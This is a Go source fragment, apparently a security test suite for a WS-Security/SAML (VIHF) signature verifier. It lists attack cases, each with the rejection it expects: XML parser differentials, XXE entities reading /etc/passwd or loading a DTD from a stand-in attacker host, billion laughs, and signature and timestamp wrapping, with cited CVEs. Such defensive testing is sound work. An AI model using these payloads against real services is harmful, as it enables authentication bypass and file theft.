		{name: "alg-value-of-sha1", expect: "bad-signature", family: downgrade, about: "the label says SHA-256, the value is SHA-1", before: func(d *draft) { d.sign = "rsa-sha1" }},
		{name: "alg-sha512-value-under-sha256", expect: "bad-signature", family: downgrade, about: "the label says SHA-256, the value is SHA-512", before: func(d *draft) { d.sign = "rsa-sha512" }},
	}
}

func parserCases() []attackCase {
	const diff = "parser differential, CVE-2020-29509/10/11, CVE-2025-25291/25292"
	p := func(name, about string, after func(string) string) attackCase {
		return attackCase{name: "xml-" + name, expect: "forbidden-xml", family: diff, about: about, after: after}
	}
	put := func(from, to string) func(string) string {
		return func(m string) string { return first(m, from, to) }
	}
	lead := func(s string) func(string) string { return func(m string) string { return s + m } }
	trail := func(s string) func(string) string { return func(m string) string { return m + s } }
	dtd := func(subset string) string { return "<!DOCTYPE soap:Envelope [" + subset + "]>" }
	const amc = "0077565712"
	return []attackCase{
		p("attribute-twice", "one attribute twice", put("<soap:Body ", `<soap:Body x="1" x="2" `)),
		p("id-twice", "wsu:Id twice on the Body", put("<soap:Body ", `<soap:Body wsu:Id="autre" `)),
		p("attribute-twice-by-uri", "one attribute twice, by two prefixes of one namespace", put("<soap:Body ", `<soap:Body xmlns:u2="`+soap.NSWSU+`" u2:Id="autre" `)),
		p("declaration-twice", "one prefix declared twice on an element", put("<soap:Body ", `<soap:Body xmlns:a="urn:a" xmlns:a="urn:b" `)),
		p("xmlns-xmlns", "xmlns:xmlns declared", put("<soap:Body ", `<soap:Body xmlns:xmlns="urn:a" `)),
		p("xmlns-uri", "a prefix bound to the namespace of xmlns", put("<soap:Body ", `<soap:Body xmlns:a="http://www.w3.org/2000/xmlns/" `)),
		p("xml-uri", "another prefix bound to the namespace of xml", put("<soap:Body ", `<soap:Body xmlns:a="http://www.w3.org/XML/1998/namespace" `)),
		p("xml-rebound", "the prefix xml bound to another namespace", put("<soap:Body ", `<soap:Body xmlns:xml="urn:a" `)),
		p("xml-default", "the namespace of xml as the default", put("<adressage>", `<adressage xmlns="http://www.w3.org/XML/1998/namespace">`)),
		p("prefix-undone", "a prefix undone as XML 1.1 allows", put("<soap:Body ", `<soap:Body xmlns:a="" `)),
		p("prefix-undeclared", "an undeclared prefix", put("<adressage>", "<adressage><z:a/>")),
		p("attribute-prefix-undeclared", "an undeclared prefix on an attribute", put("<adressage>", `<adressage z:a="1">`)),
		p("xmlns-element", "an element of the prefix xmlns", put("<adressage>", "<adressage><xmlns:a/>")),
		p("empty-prefix", "a name that starts with a colon", put("<adressage>", "<adressage><:a/>")),
		p("two-colons", "a name with two colons", put("<adressage>", "<adressage><soap:a:b/>")),
		p("relative-namespace", "a relative namespace URI", put("<soap:Body ", `<soap:Body xmlns:a="a" `)),
		p("relative-default-namespace", "a relative default namespace", put("<adressage>", `<adressage xmlns="../x">`)),
		p("namespace-iri", "a namespace with a letter that no URI holds", put("<soap:Body ", "<soap:Body xmlns:a=\"urn:\u00E9\" ")),
		p("namespace-space", "a namespace with a space, which the readers of URIs treat in several ways", put("<soap:Body ", `<soap:Body xmlns:a="urn:a b" `)),
		p("nul", "a NUL in a value", put(amc, amc+"\x00")),
		p("nul-after", "a NUL after the root: libxml2 stops reading there", trail("\x00<autre/>")),
		p("nul-reference", "a character reference to NUL", put(amc, "&#0;"+amc)),
		p("control", "a control character", put(amc, amc+"\x08")),
		p("control-reference", "a character reference to a control character", put(amc, "&#x8;"+amc)),
		p("overlong", "an overlong UTF-8 '<'", put(amc, "\xC0\xBC"+amc)),
		p("overlong-nul", "an overlong UTF-8 NUL", put(amc, "\xC0\x80"+amc)),
		p("surrogates", "surrogates encoded as UTF-8 (CESU-8)", put(amc, "\xED\xA0\xBD\xED\xB8\x80"+amc)),
		p("surrogate-reference", "a character reference to a surrogate", put(amc, "&#xD800;"+amc)),
		p("huge-reference", "a character reference beyond Unicode", put(amc, "&#x110000;"+amc)),
		p("overflowing-reference", "a character reference that overflows 32 bits", put(amc, "&#4294967344;"+amc)),
		p("latin1", "bytes of ISO 8859-1", put(amc, "\xE9"+amc)),
		p("latin1-declared", "ISO 8859-1 declared", lead(`<?xml version="1.0" encoding="ISO-8859-1"?>`)),
		p("utf7-declared", "UTF-7 declared", lead(`<?xml version="1.0" encoding="UTF-7"?>`)),
		p("utf16", "UTF-16 with its BOM", func(m string) string { return utf16Of(m, true) }),
		p("utf16-no-bom", "UTF-16 without BOM", func(m string) string { return utf16Of(m, false) }),
		p("bom-twice", "two BOMs", lead("\xEF\xBB\xBF\xEF\xBB\xBF")),
		p("bom-between-tags", "a BOM between Header and Body", put("<soap:Body ", "\xEF\xBB\xBF<soap:Body ")).as("not-soap"),
		p("bom-in-value", "a BOM in a value: a character like another, so the digest does not hold", put(amc, amc+"\xEF\xBB\xBF")).as("bad-signature"),
		p("noncharacter", "U+FFFF in a value", put(amc, amc+"\xEF\xBF\xBF")),
		p("noncharacter-reference", "a reference to U+FFFE", put(amc, "&#xFFFE;"+amc)),
		p("doctype", "a DOCTYPE", lead("<!DOCTYPE soap:Envelope>")),
		p("doctype-lower", "a doctype in lower case", lead("<!doctype soap:Envelope>")),
		p("doctype-in-body", "a DOCTYPE in the Body", put("<adressage>", "<!DOCTYPE a><adressage>")),
		p("doctype-id-attribute", "a DTD that makes an attribute an ID", lead(dtd(`<!ATTLIST adressage wsu:Id ID #IMPLIED>`))),
		p("doctype-default-attribute", "a DTD that adds an attribute by default", lead(dtd(`<!ATTLIST adressage x CDATA "1">`))),
		p("entity-internal", "an entity of the internal subset in a value", func(m string) string {
			return dtd(`<!ENTITY a "0099999999">`) + first(m, amc, "&a;")
		}),
		p("entity-external", "an external entity (XXE)", func(m string) string {
			return dtd(`<!ENTITY a SYSTEM "file:///etc/passwd">`) + first(m, amc, "&a;")
		}),
		p("entity-parameter", "an external parameter entity (XXE out of band)", lead(dtd(`<!ENTITY % a SYSTEM "http://pirate.example/a.dtd"> %a;`))),
		p("entity-billion-laughs", "entities that grow (billion laughs)", func(m string) string {
			return dtd(`<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">`) + first(m, amc, "&c;")
		}),
		p("entity-unknown", "an entity of HTML", put(amc, "&nbsp;"+amc)),
		p("entity-case", "a predefined entity in capitals", put(amc, "&AMP;"+amc)),
		p("entity-without-semicolon", "a reference without its semicolon", put(amc, "&#48 "+amc)),
		p("ampersand", "a bare ampersand", put(amc, "a & b")),
		p("pi", "a processing instruction before the root", lead("<?pirate a?>")),
		p("pi-in-body", "a processing instruction in a value: exc-c14n would keep it, some readers split at it", put(amc, "00775<?p?>65712")),
		p("pi-after", "a processing instruction after the root", trail("<?pirate?>")),
		p("two-declarations", "two XML declarations", lead(`<?xml version="1.0"?><?xml version="1.0"?>`)),
		p("late-declaration", "an XML declaration after a newline", lead("\n<?xml version=\"1.0\"?>")),
		p("xml11", "XML 1.1", lead(`<?xml version="1.1"?>`)),
		p("declaration-with-junk", "an unknown pseudo attribute in the declaration", lead(`<?xml version="1.0" pirate="1"?>`)),
		p("second-root", "a second root", trail("<autre/>")),
		p("text-after-root", "text after the root", trail("texte")),
		p("text-before-root", "text before the root", lead("texte")),
		p("cut", "the message is cut short", func(m string) string { return strings.TrimSuffix(m, "</soap:Envelope>") }),
		p("cut-in-tag", "the message is cut in a tag", func(m string) string { return m[:len(m)-3] }),
		p("end-tag-differs", "an end tag of another name", put("</adressage>", "</adresse>")),
		p("end-tag-other-prefix", "an end tag with another prefix of the same namespace", func(m string) string {
			return first(first(m, "<soap:Body ", `<soap:Body xmlns:s2="`+soap.NS12+`" `), "</soap:Body>", "</s2:Body>")
		}),
		p("end-tag-attribute", "an attribute on an end tag", put("</adressage>", `</adressage x="1">`)),
		p("no-space-between-attributes", "no space between two attributes", put("<soap:Body ", `<soap:Body x="1"y="2" `)),
		p("attribute-without-quotes", "an attribute without quotes", put("<soap:Body ", `<soap:Body x=1 `)),
		p("attribute-without-value", "an attribute without a value", put("<soap:Body ", `<soap:Body x `)),
		p("less-than-in-attribute", "'<' in an attribute", put("<soap:Body ", `<soap:Body x="<" `)),
		p("cdata-end-in-text", "]]> in a text", put(amc, amc+"]]>")),
		p("cdata-nested", "a CDATA section in another", put(amc, "<![CDATA[<![CDATA[]]>]]>")),
		p("cdata-lower", "cdata in lower case", put(amc, "<![cdata[a]]>")),
		p("cdata-outside", "a CDATA section after the root", trail("<![CDATA[]]>")),
		p("cdata-open", "a CDATA section that is never closed", put(amc, "<![CDATA[")),
		p("comment-double-dash", "-- inside a comment", put("<adressage>", "<!-- a -- b --><adressage>")),
		p("comment-triple-dash", "a comment that ends in --->", put("<adressage>", "<!-- a ---><adressage>")),
		p("comment-open", "a comment that is never closed", put("<adressage>", "<!-- <adressage>")),
		p("comment-invalid-utf8", "invalid UTF-8 in a comment", put("<adressage>", "<!-- \xFF --><adressage>")),
		p("comment-control", "a control character in a comment", put("<adressage>", "<!-- \x01 --><adressage>")),
		p("name-with-space", "a space between '<' and the name", put("<adressage>", "< adressage>")),
		p("name-starts-with-digit", "a name that starts with a digit", put("<adressage>", "<adressage><1a/>")),
		p("name-multiplication-sign", "a name with U+00D7, which no name may hold", put("<adressage>", "<adressage><a\u00D7/>")),
		p("conditional", "a conditional section", put("<adressage>", "<![INCLUDE[]]><adressage>")),
		p("empty-tag-space", "a space inside '/>'", put("<adressage>", "<adressage><a/ >")),
		p("attribute-tab-after-signing", "a tab in a signed attribute becomes a space for the reader and for the digest: the value that is signed is the one with a space", nil).
			as("accepted").with(func(d *draft) { d.content = swap(goodContent, "<adressage>", `<adressage a="x y">`) }).then(put(`a="x y"`, "a=\"x\ty\"")),
		p("empty", "an empty message", func(string) string { return "" }).as("not-soap"),
		p("json", "no XML at all", func(string) string { return `{"a":1}` }),
	}
}

func (c attackCase) as(expect string) attackCase { c.expect = expect; return c }

func utf16Of(m string, bom bool) string {
	var b bytes.Buffer
	if bom {
		b.WriteString("\xFF\xFE")
	}
	for _, u := range utf16.Encode([]rune(m)) {
		b.Write([]byte{byte(u), byte(u >> 8)})
	}
	return b.String()
}

func securityCases() []attackCase {
	const games = "Security header games (SOAP roles, WSS 1.0, 6)"
	s := func(name, expect, about string, after func(string) string) attackCase {
		return attackCase{name: "sec-" + name, expect: expect, family: games, about: about, after: after}
	}
	attr := func(a string) func(*draft) { return func(d *draft) { d.security = " " + a } }
	return []attackCase{
		s("two", "bad-signature", "two Security headers, the signed one first", func(m string) string { return inHeader(m, "<wsse:Security/>") }),
		s("two-last", "bad-signature", "two Security headers, the signed one last", func(m string) string {
			return swap(m, "<soap:Header>", "<soap:Header><wsse:Security/>")
		}),
		s("two-with-actor", "bad-signature", "the second one is for another actor", func(m string) string {
			return inHeader(m, `<wsse:Security soap:role="urn:autre">`+stampPart(m)+`</wsse:Security>`)
		}),
		s("other-role", "bad-signature", "a Security for another role", nil).with(attr(`soap:role="urn:autre"`)),
		s("role-next", "bad-signature", "a Security for the next node", nil).with(attr(`soap:role="` + soap.NS12 + `/role/next"`)),
		s("empty-actor-of-11-in-12", "bad-signature", "an empty actor of SOAP 1.1 in SOAP 1.2", nil).with(attr(`xmlns:s11="` + soap.NS11 + `" s11:actor=""`)),
		s("empty-role-of-12-in-11", "bad-signature", "an empty role of SOAP 1.2 in SOAP 1.1", nil).with(func(d *draft) {
			d.ns, d.security = soap.NS11, ` xmlns:s12="`+soap.NS12+`" s12:role=""`
		}),
		s("role-nbsp", "bad-signature", "a role of one no-break space is not empty", nil).with(attr("soap:role=\"\u00a0\"")),
		s("two-empty-role-last", "bad-signature", "two Security headers, the second for an empty role", func(m string) string {
			return inHeader(m, `<wsse:Security soap:role="">`+stampPart(m)+`</wsse:Security>`)
		}),
		s("actor-of-11-in-12", "bad-signature", "an actor of SOAP 1.1 in SOAP 1.2", nil).with(attr(`xmlns:s11="` + soap.NS11 + `" s11:actor="urn:autre"`)),
		s("role-of-12-in-11", "bad-signature", "a role of SOAP 1.2 in SOAP 1.1", nil).with(func(d *draft) {
			d.ns, d.security = soap.NS11, ` xmlns:s12="`+soap.NS12+`" s12:role="`+ultimateReceiver+`"`
		}),
		s("actor-in-11", "bad-signature", "a Security for another actor, SOAP 1.1", nil).with(func(d *draft) { d.ns, d.security = soap.NS11, ` soap:actor="urn:autre"` }),
		s("role-by-prefix", "bad-signature", "a role by another prefix of the namespace", nil).with(attr(`xmlns:e="` + soap.NS12 + `" e:role="urn:autre"`)),
		s("namespace-of-11", "not-signed", "Security in a namespace that is almost the right one", func(m string) string {
			return strings.ReplaceAll(m, soap.NSWSSE, strings.ToUpper(soap.NSWSSE[:4])+soap.NSWSSE[4:])
		}),
		s("wss11-element", "bad-signature", "an encrypted key in Security", func(m string) string {
			return swap(m, "</wsse:Security>", `<xenc:EncryptedKey xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></wsse:Security>`)
		}),
		s("username-token", "bad-signature", "a UsernameToken in Security", func(m string) string {
			return swap(m, "</wsse:Security>", `<wsse:UsernameToken><wsse:Username>CANARI</wsse:Username></wsse:UsernameToken></wsse:Security>`)
		}),
		s("text", "bad-signature", "text in Security", func(m string) string { return swap(m, "</wsse:Security>", "texte</wsse:Security>") }),
		s("comment", "bad-signature", "a comment in Security", func(m string) string { return swap(m, "</wsse:Security>", "<!-- --></wsse:Security>") }),
		s("comment-in-signedinfo", "bad-signature", "a comment in SignedInfo: exc-c14n would drop it", func(m string) string {
			return swap(m, "<ds:SignedInfo>", "<ds:SignedInfo><!-- -->")
		}),
		s("soap11-in-12", "not-soap", "an Envelope of SOAP 1.1 with a Body of SOAP 1.2", func(m string) string {
			return swap(swap(m, "<soap:Envelope ", `<s:Envelope xmlns:s="`+soap.NS11+`" `), "</soap:Envelope>", "</s:Envelope>")
		}),
		s("version-changed", "bad-signature", "the version of SOAP changed after signing", func(m string) string {
			return strings.ReplaceAll(m, soap.NS12, soap.NS11)
		}),
		s("soap13", "not-soap", "a version of SOAP that is none", func(m string) string {
			return strings.ReplaceAll(m, soap.NS12, "http://www.w3.org/2099/soap-envelope")
		}),
		s("envelope-lower", "not-soap", "envelope in lower case", func(m string) string { return strings.ReplaceAll(m, "soap:Envelope", "soap:envelope") }),
		s("text-in-envelope", "not-soap", "text between Header and Body", func(m string) string { return swap(m, "</soap:Header>", "</soap:Header>texte") }),
		s("text-in-header", "not-soap", "text in the Header", func(m string) string { return inHeader(m, "texte") }),
		s("text-in-body", "not-soap", "text beside the operation", func(m string) string { return swap(m, "</soap:Body>", "texte</soap:Body>") }),
		s("cdata-in-body", "not-soap", "an empty CDATA section beside the operation", func(m string) string { return swap(m, "</soap:Body>", "<![CDATA[]]></soap:Body>") }),
		s("empty-body", "not-soap", "an empty Body", func(m string) string { return swap(m, bodyPart(m), "<soap:Body "+forgedBody+"/>") }),
		s("no-body", "not-soap", "no Body", func(m string) string { return swap(m, bodyPart(m), "") }),
		s("header-after-body", "not-soap", "the Header after the Body", func(m string) string {
			h := part(m, "<soap:Header>", "</soap:Header>")
			return swap(swap(m, h, ""), "</soap:Body>", "</soap:Body>"+h)
		}),
		s("comment-after-body", "accepted", "a comment after the Body: no signature holds it and no node of SOAP reads it", func(m string) string {
			return swap(m, "</soap:Body>", "</soap:Body><!-- <soap:Body/> -->\n")
		}),
		s("comment-after-root", "accepted", "comments before and after the Envelope", func(m string) string { return "<!-- a -->\n" + m + "\n<!-- b --> <!-- c -->" }),
		s("comment-and-text-after-body", "not-soap", "text after a comment after the Body", func(m string) string { return swap(m, "</soap:Body>", "</soap:Body><!-- -->texte") }),
		s("comment-and-body-after-body", "not-soap", "a Body after a comment after the Body", func(m string) string {
			return swap(m, "</soap:Body>", "</soap:Body><!-- -->"+evilSOAPBody)
		}),
		s("cdata-after-body", "not-soap", "an empty CDATA section after the Body", func(m string) string { return swap(m, "</soap:Body>", "</soap:Body><![CDATA[]]>") }),
		s("reference-after-body", "not-soap", "a character reference to a space after the Body", func(m string) string { return swap(m, "</soap:Body>", "</soap:Body>&#32;") }),
		s("pi-after-root", "forbidden-xml", "a processing instruction after a comment after the Envelope", func(m string) string { return m + "<!-- --><?a b?>" }),
		s("doctype-after-comment", "forbidden-xml", "a DTD after a comment before the Envelope", func(m string) string { return "<!-- --><!DOCTYPE a>" + m }),
		s("declaration-after-comment", "forbidden-xml", "an XML declaration after a comment", func(m string) string { return `<!-- --><?xml version="1.0"?>` + m }),
		s("open-comment-after-root", "forbidden-xml", "a comment after the Envelope that is never closed", func(m string) string { return m + "<!-- " }),
		s("confirmation-in-request", "bad-signature", "SignatureConfirmation in a request", nil).with(confirmationDraft),
		s("confirmation-outside-answer-filled", "bad-signature", "a SignatureConfirmation that holds a Timestamp", nil).with(func(d *draft) {
			confirmationDraft(d)
			d.order[3] = swap(d.order[3], "/>", ">"+d.timestamp+"</wsse11:SignatureConfirmation>")
			d.order[3] = swap(d.order[3], "ts-CANARI", "ts2-CANARI")
		}).answer(),
		s("confirmation-almost", "bad-signature", "SignatureConfirmation in the namespace of WSS 1.0", nil).with(func(d *draft) {
			d.order = append(d.order, `<wsse:SignatureConfirmation Value="AAAA"/>`)
		}).answer(),
		s("multipart", "forbidden-xml", "a MIME multipart around the envelope (MTOM)", func(m string) string {
			return "--frontiere\r\nContent-Type: application/xop+xml\r\n\r\n" + m + "\r\n--frontiere--"
		}),
		s("unused", "accepted", "wsse elements of the business in the Body mean nothing", nil).with(func(d *draft) {
			d.content = swap(goodContent, "<adressage>", "<wsse:Security><wsse:UsernameToken/></wsse:Security><adressage>")
		}),
		{name: "sec-security-in-order", expect: "accepted", family: harmless, about: "Signature before Timestamp and token, as WSS4J and zeep write them", before: func(d *draft) { d.order = []string{"signature", "timestamp", "token"} }},
	}
}

func timestampCases() []attackCase {
	const wrapping = "Timestamp wrapping"
	evilStamp := `<wsu:Timestamp wsu:Id="ts2-CANARI"><wsu:Created>2026-11-21T09:31:00.000Z</wsu:Created><wsu:Expires>2026-11-21T09:36:00.000Z</wsu:Expires></wsu:Timestamp>`
	a := func(name, expect, about string, after func(m, ts string) string) attackCase {
		return attackCase{name: "ts-" + name, expect: expect, family: wrapping, about: about, after: func(m string) string { return after(m, stampPart(m)) }}
	}
	stamp := func(name, expect, about, inner string) attackCase {
		return attackCase{name: "ts-" + name, expect: expect, family: "Timestamp", about: about, before: func(d *draft) {
			d.timestamp = `<wsu:Timestamp wsu:Id="ts-CANARI">` + inner + `</wsu:Timestamp>`
		}}
	}
	const created, expires = "<wsu:Created>2026-11-21T09:30:00Z</wsu:Created>", "<wsu:Expires>2026-11-21T09:35:00Z</wsu:Expires>"
	return []attackCase{
		a("second", "bad-signature", "a fresh Timestamp beside the signed one", func(m, ts string) string { return swap(m, ts, evilStamp+ts) }),
		a("moved-to-header", "part-not-signed", "the signed Timestamp is moved to be a header block, a fresh one takes its place", func(m, ts string) string {
			return inHeader(swap(m, ts, evilStamp), ts)
		}),
		a("moved-deeper", "bad-signature", "the signed Timestamp is wrapped in a header block", func(m, ts string) string {
			return inHeader(swap(m, ts, evilStamp), `<w xmlns="urn:fictif">`+ts+`</w>`)
		}),
		a("in-timestamp", "bad-signature", "the signed Timestamp is wrapped in a fresh one", func(m, ts string) string {
			return swap(m, ts, swap(evilStamp, "</wsu:Timestamp>", ts+"</wsu:Timestamp>"))
		}),
		a("same-id", "bad-signature", "the fresh one has the same Id", func(m, ts string) string {
			return inHeader(swap(m, ts, swap(evilStamp, "ts2-CANARI", "ts-CANARI")), ts)
		}),
		a("removed", "bad-signature", "the signed Timestamp is removed", func(m, ts string) string { return swap(m, ts, "") }),
		a("changed", "bad-signature", "Created changed", func(m, _ string) string { return swap(m, "09:30:00.000Z", "09:31:00.000Z") }),
		{name: "ts-unsigned", expect: "part-not-signed", family: wrapping, about: "a Timestamp that is not signed", before: func(d *draft) { d.refs = d.refs[1:] }},
		{name: "ts-none", expect: "part-not-signed", family: wrapping, about: "no Timestamp", before: func(d *draft) {
			d.refs, d.order = d.refs[1:], []string{"token", "signature"}
		}},
		{name: "ts-in-body", expect: "part-not-signed", family: wrapping, about: "a Timestamp in the signed Body", before: func(d *draft) {
			d.refs, d.order = d.refs[1:], []string{"token", "signature"}
			d.content = swap(goodContent, "<adressage>", d.timestamp+"<adressage>")
		}},
		stamp("expired", "stale-timestamp", "a message of yesterday", "<wsu:Created>2026-11-20T09:30:00Z</wsu:Created><wsu:Expires>2026-11-20T09:35:00Z</wsu:Expires>"),
		stamp("future", "stale-timestamp", "a message of tomorrow", "<wsu:Created>2026-11-22T09:30:00Z</wsu:Created><wsu:Expires>2026-11-22T09:35:00Z</wsu:Expires>"),
		stamp("eternal", "stale-timestamp", "a life of a year", created+"<wsu:Expires>2027-11-21T09:35:00Z</wsu:Expires>"),
		stamp("no-expires-old", "stale-timestamp", "no Expires: five minutes, and they are past", "<wsu:Created>2026-11-21T09:15:00Z</wsu:Created>"),
		stamp("no-zone", "stale-timestamp", "no zone", "<wsu:Created>2026-11-21T09:30:00</wsu:Created>"+expires),
		stamp("reversed", "stale-timestamp", "Expires before Created in the text", expires+created),
		stamp("created-twice", "stale-timestamp", "two Created", created+created+expires),
		stamp("expires-twice", "stale-timestamp", "two Expires, the second one late", created+expires+"<wsu:Expires>2036-11-21T09:35:00Z</wsu:Expires>"),
		stamp("created-nested", "stale-timestamp", "an element in Created", "<wsu:Created>2026-11-21T09:30:00Z<x/></wsu:Created>"+expires),
		stamp("created-cdata", "stale-timestamp", "Created as CDATA", "<wsu:Created><![CDATA[2026-11-21T09:30:00Z]]></wsu:Created>"+expires),
		stamp("empty", "stale-timestamp", "an empty Timestamp", ""),
		stamp("leap-day", "stale-timestamp", "a day that does not exist", "<wsu:Created>2026-02-29T09:30:00Z</wsu:Created>"),
		stamp("unknown-child", "stale-timestamp", "an unknown element", created+expires+`<x xmlns="urn:fictif"/>`),
	}
}

func vihfCases() []attackCase {
	const wrapped = "VIHF (SAML assertion), CVE-2024-45409, CVE-2025-66567"
	good := string(testStructure)
	const valid = `conditions NotBefore="2026-11-21T09:00:00Z" NotOnOrAfter="2026-11-21T10:00:00Z"`
	covering := func(d *draft) { d.refs = append(d.refs, ref("#vihf-CANARI")) }
	v := func(name, expect, about string, f func() string) attackCase {
		return attackCase{name: "vihf-" + name, expect: expect, family: wrapped, about: about, before: func(d *draft) {
			d.order = append(d.order, f())
		}}
	}
	return []attackCase{
		v("good", "accepted", "a signed VIHF of the caller's structure", func() string { return assertion("signataire", structureAttribute(good), "") }).fam(harmless),
		v("not-signed", "not-signed", "a VIHF that is not signed", func() string {
			a := assertion("signataire", structureAttribute(good), "")
			return swap(a, signPart(a), "")
		}),
		v("altered", "bad-signature", "Identifiant_Structure changed after signing", func() string {
			return swap(assertion("signataire", structureAttribute("1010003820"), ""), "1010003820", good)
		}),
		v("other-structure", "structure-mismatch", "a VIHF that names another structure", func() string { return assertion("signataire", structureAttribute("1010003820"), "") }),
		v("other-signer", "signer-mismatch", "a VIHF signed by another structure", func() string { return assertion("autre-structure", structureAttribute(good), "") }),
		v("untrusted-signer", "untrusted-signer", "a VIHF signed under another CA", func() string { return assertion("autre-signataire", structureAttribute(good), "") }),
		v("two-structures", "structure-mismatch", "two Identifiant_Structure, the right one first", func() string {
			return assertion("signataire", structureAttribute(good)+structureAttribute("1010003820"), "")
		}),
		v("two-values", "structure-mismatch", "two values in Identifiant_Structure", func() string {
			return assertion("signataire", swap(structureAttribute(good), "</saml:Attribute>", "<saml:AttributeValue>1010003820</saml:AttributeValue></saml:Attribute>"), "")
		}),
		v("no-structure", "structure-mismatch", "no Identifiant_Structure", func() string { return assertion("signataire", "", "") }),
		v("space", "structure-mismatch", "a space in the structure: equal means equal", func() string { return assertion("signataire", structureAttribute(good+" "), "") }),
		v("wrapped-in-itself", "bad-signature", "the signed assertion is wrapped in another one, whose signature refers to it", func() string {
			a := assertion("signataire", structureAttribute(good), "")
			evil := assertion("signataire", structureAttribute("1010003820"), "")
			evil = swap(evil, signPart(evil), signPart(a))
			evil = swap(evil, `ID="vihf-CANARI"`, `ID="vihf2-CANARI"`)
			return swap(evil, "</saml:Assertion>", "<saml:Advice>"+swap(a, signPart(a), "")+"</saml:Advice></saml:Assertion>")
		}),
		v("signature-over-part", "bad-signature", "the signature covers the AttributeStatement only", func() string { return assertion("signataire", structureAttribute(good), "statement") }),
		v("without-enveloped", "bad-signature", "the reference has no enveloped-signature: its digest can never hold", func() string { return assertion("signataire", structureAttribute(good), "plain") }),
		v("two-signatures", "bad-signature", "two signatures in the VIHF", func() string {
			a := assertion("signataire", structureAttribute(good), "")
			return swap(a, signPart(a), signPart(a)+signPart(a))
		}),
		v("signature-deeper", "not-signed", "the signature is wrapped deeper in the assertion", func() string {
			a := assertion("signataire", structureAttribute(good), "")
			return swap(a, signPart(a), "<saml:Advice>"+signPart(a)+"</saml:Advice>")
		}),
		v("two", "bad-signature", "two VIHF", func() string {
			a := assertion("signataire", structureAttribute(good), "")
			return a + strings.ReplaceAll(a, "vihf-CANARI", "vihf2-CANARI")
		}),
		v("comment", "bad-signature", "a comment in Identifiant_Structure (CVE-2017-11427)", func() string {
			return swap(assertion("signataire", structureAttribute(good), ""), good, good[:5]+"<!-- -->"+good[5:])
		}),
		v("body-signature-covers-it", "accepted", "the message's signature covers the VIHF", func() string {
			return assertion("signataire", structureAttribute(good), "")
		}).and(covering).fam(harmless),
		v("enforced-good", "accepted", "covered, and within its Conditions", func() string {
			return assertion("signataire", structureAttribute(good), valid)
		}).and(covering).fam(harmless).enforced(),
		v("enforced-at-the-tolerance", "accepted", "expired for less than the tolerance", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotOnOrAfter="2026-11-21T09:25:00.001Z"`)
		}).and(covering).fam(harmless).enforced(),
		v("enforced-not-covered", "part-not-signed", "a VIHF that the message's signature does not cover, from another message", func() string {
			return assertion("signataire", structureAttribute(good), valid)
		}).enforced(),
		v("enforced-expired", "stale-timestamp", "expired for the tolerance", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotOnOrAfter="2026-11-21T09:25:00Z"`)
		}).and(covering).enforced(),
		v("enforced-not-yet", "stale-timestamp", "not valid yet", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotBefore="2026-11-21T09:35:01Z" NotOnOrAfter="2026-11-21T10:00:00Z"`)
		}).and(covering).enforced(),
		v("enforced-no-conditions", "stale-timestamp", "no Conditions", func() string {
			return assertion("signataire", structureAttribute(good), "")
		}).and(covering).enforced(),
		v("enforced-no-end", "stale-timestamp", "Conditions without an end", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotBefore="2026-11-21T09:00:00Z"`)
		}).and(covering).enforced(),
		v("enforced-no-zone", "stale-timestamp", "an end without a zone", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotOnOrAfter="2026-11-21T10:00:00"`)
		}).and(covering).enforced(),
		v("enforced-two-conditions", "stale-timestamp", "two Conditions, the good one last", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotOnOrAfter="2026-11-21T09:00:00Z"/><saml:Conditions NotOnOrAfter="2026-11-21T10:00:00Z"`)
		}).and(covering).enforced(),
		v("enforced-altered-conditions", "bad-signature", "Conditions changed after both signatures", func() string {
			return assertion("signataire", structureAttribute(good), valid)
		}).and(covering).enforced().then(func(m string) string { return swap(m, "2026-11-21T10:00:00Z", "2026-11-21T11:00:00Z") }),
		v("observed-expired", "accepted", "expired, and only observed", func() string {
			return assertion("signataire", structureAttribute(good), `conditions NotOnOrAfter="2026-11-21T09:00:00Z"`)
		}).and(covering),
		v("saml1", "bad-signature", "an assertion of SAML 1.1", func() string {
			return `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion" AssertionID="vihf-CANARI"/>`
		}),
		v("sha1", "forbidden-algorithm", "the signature of the VIHF by SHA-1", func() string { return assertion("signataire", structureAttribute(good), "sha1") }),
	}
}

func (c attackCase) fam(family string) attackCase { c.family = family; return c }

func (c attackCase) and(more func(*draft)) attackCase {
	before := c.before
	c.before = func(d *draft) { before(d); more(d) }
	return c
}

func structureAttribute(value string) string {
	return `<saml:Attribute Name="Identifiant_Structure"><saml:AttributeValue>` + value + `</saml:AttributeValue></saml:Attribute>`
}

// assertion makes a signed VIHF; way is "" for the right one.
func assertion(key, attributes, way string) string {
	d := newDraft()
	d.key = key
	d.keyInfo = `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>` + certOf(key) + `</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`
	enveloped := `<ds:Transform Algorithm="` + algEnveloped + `"/>` + excOnce
	id, conditions := "", ""
	if attrs, ok := strings.CutPrefix(way, "conditions "); ok {
		conditions = "<saml:Conditions " + attrs + "/>"
	}
	d.refs = []string{refWith("#vihf-CANARI", enveloped, algSHA256, "@digest sha256 vihf-CANARI enveloped@")}
	switch way {
	case "statement":
		id = ` Id="statement-CANARI"`
		d.refs = []string{refWith("#statement-CANARI", enveloped, algSHA256, "@digest sha256 statement-CANARI@")}
	case "plain":
		d.refs = []string{ref("#vihf-CANARI")}
	case "sha1":
		d.refs = []string{refWith("#vihf-CANARI", enveloped, algSHA1, "@digest sha1 vihf-CANARI enveloped@")}
	}
	return d.seal(`<saml:Assertion xmlns:saml="` + soap.NSSAML + `" ID="vihf-CANARI" Version="2.0" IssueInstant="2026-11-21T09:30:00Z"><saml:Issuer>TEST</saml:Issuer>` +
		`<ds:Signature xmlns:ds="` + soap.NSDS + `">` + d.signedInfo() + d.value + d.keyInfo + `</ds:Signature>` +
		conditions + `<saml:AttributeStatement` + id + `>` + attributes + `</saml:AttributeStatement></saml:Assertion>`)
}
